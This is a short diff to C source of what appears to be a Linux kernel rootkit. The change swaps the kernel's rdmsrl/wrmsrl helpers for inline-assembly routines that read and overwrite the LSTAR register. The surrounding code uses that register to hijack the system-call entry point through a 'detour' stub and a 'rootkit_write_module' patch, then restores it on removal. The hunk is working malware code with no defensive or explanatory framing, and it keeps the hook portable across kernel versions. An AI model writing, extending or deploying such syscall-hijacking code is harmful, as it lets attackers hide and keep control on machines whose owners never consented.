@@ -197,24 +197,40 @@ asm(".pushsection .text\n"
     ".popsection\n");
 extern char detour[];
 
+#define LSTAR 0xc0000082u
+
 static u64 old_entry;
+
+/* The kernel's own names for these have changed. */
+static u64 read_lstar(void)
+{
+	u32 low, high;
+
+	asm volatile("rdmsr" : "=a" (low), "=d" (high) : "c" (LSTAR));
+	return (u64)high << 32 | low;
+}
+
+static void write_lstar(u64 to)
+{
+	asm volatile("wrmsr" : : "a" ((u32)to), "d" ((u32)(to >> 32)), "c" (LSTAR) : "memory");
+}
 
 static int take_entry(void)
 {
 	s32 offset;
 	int r;
 
-	rdmsrl(MSR_LSTAR, old_entry);
+	old_entry = read_lstar();
 	offset = (long)old_entry - (long)(detour + PATCH);
 	r = rootkit_write_module(detour + 1, &offset, sizeof(offset));
 	if (!r)
-		wrmsrl(MSR_LSTAR, (unsigned long)detour);
+		write_lstar((unsigned long)detour);
 	return r;
 }
 
 static void give_entry_back(void)
 {
-	wrmsrl(MSR_LSTAR, old_entry);
+	write_lstar(old_entry);
 }
 
 struct trick hook_tricks[] = {
